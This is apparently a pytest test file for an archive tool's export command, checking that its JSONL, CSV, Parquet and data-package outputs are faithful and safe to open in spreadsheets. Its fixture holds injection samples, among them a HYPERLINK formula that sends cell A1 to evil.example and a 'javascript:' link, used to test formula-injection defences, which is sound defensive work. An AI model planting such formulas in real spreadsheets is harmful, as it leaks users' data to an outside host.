"""``fazhi export``: every format holds the same reports, whole and as they are, and no cell runs in a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fazhi_zoo.records import capture, library, report
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from archive import datapackage, export, schema, sheets, store
from archive.cli import fazhi
from archive.errors import UsageError
from archive.model import Attachment

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
NAMES = [name for name in schema.tables()["reports"].names if name != "docid"]


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data directory with 45 invented reports and one whose cells want to be formulas."""
    root = tmp_path_factory.mktemp("data")
    db = store.open_archive(root / "archive.db")
    for taken, document in library(45):
        store.save(db, taken, document)
    evil = report(
        "一、主要工作\n" + '引号"、逗号,\r\n与换行。\x01' * 20, title=EVIL, issuer="@SUM(1)", doc_no="-2+3",
        year=2031, attachments=(Attachment(EVIL, "javascript:alert(1)"),),
    )  # fmt: skip
    store.save(db, capture(99), evil)
    db.close()
    return root


@pytest.fixture(scope="module")
def rows(data: Path) -> list[dict[str, Any]]:
    """What the archive says of every report, in the order of ids."""
    db = store.open_archive(data / "archive.db", readonly=True)
    listed = ", ".join(f"r.{name}" for name in NAMES)
    found = list(db.query(f"select {listed}, t.text from reports r join texts t using (id) order by r.id"))
    db.close()
    assert len(found) == 46
    return found


def run(data: Path, *arguments: str, status: int = 0) -> Any:
    result = CliRunner().invoke(fazhi, ["export", "--data", str(data), *arguments])
    assert result.exit_code == status, result.output
    return result


def table(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode("utf-8"), newline="")))


def test_json_lines(data: Path, rows: list[dict[str, Any]]) -> None:
    result = run(data)
    assert [json.loads(line) for line in result.stdout_bytes.splitlines()] == rows
    assert result.stderr == "46 report(s) exported\n"


def test_selection_and_metadata(data: Path, rows: list[dict[str, Any]]) -> None:
    lines = run(data, "--metadata-only", "--year", "2019", "--region", "990100").stdout_bytes.splitlines()
    wanted = [row for row in rows if row["year"] == 2019 and (row["adcode"] or "").startswith("9901")]
    assert wanted
    assert [json.loads(line) for line in lines] == [{k: v for k, v in row.items() if k != "text"} for row in wanted]
    town = run(data, "--region", "990102101").stdout_bytes.splitlines()
    assert {json.loads(line)["town_code"] for line in town} == {"990102101"}
    nothing = run(data, "--year", "1999")
    assert (nothing.stdout_bytes, nothing.stderr) == (b"", "0 report(s) exported\n")


def test_csv_opens_in_excel_and_runs_nothing(data: Path, rows: list[dict[str, Any]]) -> None:
    made = run(data, "--format", "csv").stdout_bytes
    assert made.startswith(b"\xef\xbb\xbfid,title,year,")
    found = table(made.removeprefix(b"\xef\xbb\xbf"))
    plain = [{k: "" if v is None else str(v) for k, v in row.items()} for row in rows]
    for row in plain:
        if row["year"] == "2031":
            row |= {"title": "'" + EVIL, "issuer": "'@SUM(1)", "doc_no": "'-2+3"}
    assert found == plain


def test_parquet_has_types(data: Path, rows: list[dict[str, Any]], tmp_path: Path) -> None:
    file = tmp_path / "reports.parquet"
    run(data, "--format", "parquet", "--output", str(file))
    read = parquet.read_table(file)
    assert {name: str(read.schema.field(name).type) for name in ("year", "published", "first_seen", "text")} == {
        "year": "int64", "published": "date32[day]", "first_seen": "timestamp[us, tz=UTC]", "text": "string"
    }  # fmt: skip

    def typed(name: str, value: Any) -> Any:
        if value is None:
            return None
        if name in ("published", "written"):
            return date.fromisoformat(value)
        return datetime.fromisoformat(value).astimezone(UTC) if name in ("first_seen", "last_seen") else value

    assert read.to_pylist() == [{k: typed(k, v) for k, v in row.items()} for row in rows]
    assert list(tmp_path.iterdir()) == [file]


def test_parquet_without_pyarrow_says_what_to_do(data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    result = run(data, "--format", "parquet", status=2)
    assert result.stderr == (
        "fazhi: Parquet needs pyarrow, which is not installed - pip install pyarrow (or fazhi with its extra"
        " `parquet`), or export with --format jsonl\n"
    )


def test_data_package_explains_and_checks_itself(data: Path, rows: list[dict[str, Any]], tmp_path: Path) -> None:
    folder = tmp_path / "package"
    run(data, "--format", "datapackage", "--output", str(folder))
    told = json.loads((folder / "datapackage.json").read_text("utf-8"))
    names = ["reports", "texts", "sources", "evidence", "issues", "attachments"]
    assert (told["$schema"], [resource["name"] for resource in told["resources"]]) == (
        "https://datapackage.org/profiles/2.0/datapackage.json",
        names,
    )
    for resource in told["resources"]:
        body = (folder / resource["path"]).read_bytes()
        assert resource["hash"] == "sha256:" + hashlib.sha256(body).hexdigest()
        assert resource["bytes"] == len(body)
        found = table(body)
        assert len(found) == resource["rowCount"]
        assert found == [] or list(found[0]) == [field["name"] for field in resource["schema"]["fields"]]
        keys = [tuple(row[name] for name in resource["schema"]["primaryKey"]) for row in found]
        assert len(set(keys)) == len(keys)
    ids = {row["id"] for row in rows}
    assert {row["id"]: row["text"] for row in table((folder / "texts.csv").read_bytes())} == {
        row["id"]: row["text"] for row in rows
    }
    assert {row["report"] for row in table((folder / "sources.csv").read_bytes())} == ids
    assert [row["name"] for row in table((folder / "attachments.csv").read_bytes())] == [EVIL]  # for programs: exact
    done = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True, check=False)
    assert done.stdout.splitlines() == ["README.md: OK", *(f"{name}.csv: OK" for name in names)]
    assert "Article 5" in (folder / "README.md").read_text("utf-8")
    again = run(data, "--format", "datapackage", "--output", str(folder), status=2)
    assert again.stderr == f"fazhi: {folder} is not empty - name a new folder with --output\n"


def test_a_package_of_a_part_refers_only_to_itself(data: Path, tmp_path: Path) -> None:
    folder = tmp_path / "part"
    run(data, "--format", "datapackage", "--output", str(folder), "--metadata-only", "--year", "2031")
    told = json.loads((folder / "datapackage.json").read_text("utf-8"))
    files = {resource["name"]: table((folder / resource["path"]).read_bytes()) for resource in told["resources"]}
    assert sorted(files) == ["attachments", "evidence", "issues", "reports", "sources"]
    ids = {row["id"] for row in files["reports"]}
    assert len(ids) == 1
    for name in ("attachments", "evidence", "sources"):
        assert {row["report"] for row in files[name]} == ids
    links = [link["reference"] for resource in told["resources"] for link in resource["schema"].get("foreignKeys", ())]
    assert {link["resource"] for link in links} == {"reports"}


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["--format", "datapackage"], "a data package is a folder - name a new one with --output"),
        (["--region", "x"], "'x' is no division code"),
        (["--output", "/nowhere/at/all.jsonl"], "cannot write /nowhere/at/all.jsonl: No such file or directory"),
        (["--format", "datapackage", "--output", "/dev/null"], "/dev/null is not empty"),
    ],
)
def test_refusals_in_words(data: Path, arguments: list[str], said: str) -> None:
    assert said in run(data, *arguments, status=2).stderr


def test_a_failed_export_leaves_no_file(data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> int:
        raise UsageError("half way", "")

    monkeypatch.setattr(export, "write", broken)
    (tmp_path / "there.csv").write_text("of before", encoding="utf-8")
    run(data, "--output", str(tmp_path / "there.csv"), status=2)
    assert [(file.name, file.read_text("utf-8")) for file in tmp_path.iterdir()] == [("there.csv", "of before")]


def test_a_reader_that_has_enough_is_no_error(data: Path) -> None:
    command = f"{sys.executable} -m crawler export --data {data} | head -c 100"
    done = subprocess.run(["bash", "-c", command], capture_output=True, check=False)
    assert (len(done.stdout), done.returncode) == (100, 0)
    assert done.stderr in (b"", b"46 report(s) exported\n")


def test_export_sees_one_state_of_an_archive_that_is_written_to(data: Path, tmp_path: Path) -> None:
    copy = tmp_path / "archive.db"
    copy.write_bytes((data / "archive.db").read_bytes())
    reader = store.open_archive(copy, readonly=True).conn
    writer = store.open_archive(copy)
    out = io.BytesIO()

    def write_meanwhile(done: int, total: int | None) -> None:
        store.save(writer, capture(500 + done), report(year=2032, title="临溪区2032年法治政府建设年度报告"))

    assert export.write(reader, export.Selection(year=2016), out, tick=write_meanwhile) == 5
    assert export.write(reader, export.Selection(year=2032), io.BytesIO(), tick=lambda *_: None) == 1
    writer.close()
    reader.close()


@given(st.text(max_size=40))
def test_no_cell_begins_like_a_formula(value: str) -> None:
    shown = str(sheets.cell(value))
    assert shown.removeprefix("'") == value.removeprefix("'")
    assert shown.lstrip(" ")[:1] not in ("=", "@", "\t", "\r")
    if shown[:1] in ("+", "-"):
        float(shown)


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=2)))
def test_csv_of_any_cells_is_made_safe_and_keeps_its_shape(cells: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(cells)
    safe = list(csv.reader(io.StringIO(sheets.safe_csv(out.getvalue()), newline="")))
    assert safe == [[sheets.cell(value) for value in row] for row in cells]


def test_parts_of_a_package_are_tables_that_name_a_report() -> None:
    assert [name for name in datapackage.PARTS if "report" not in schema.tables()[name].names] == []
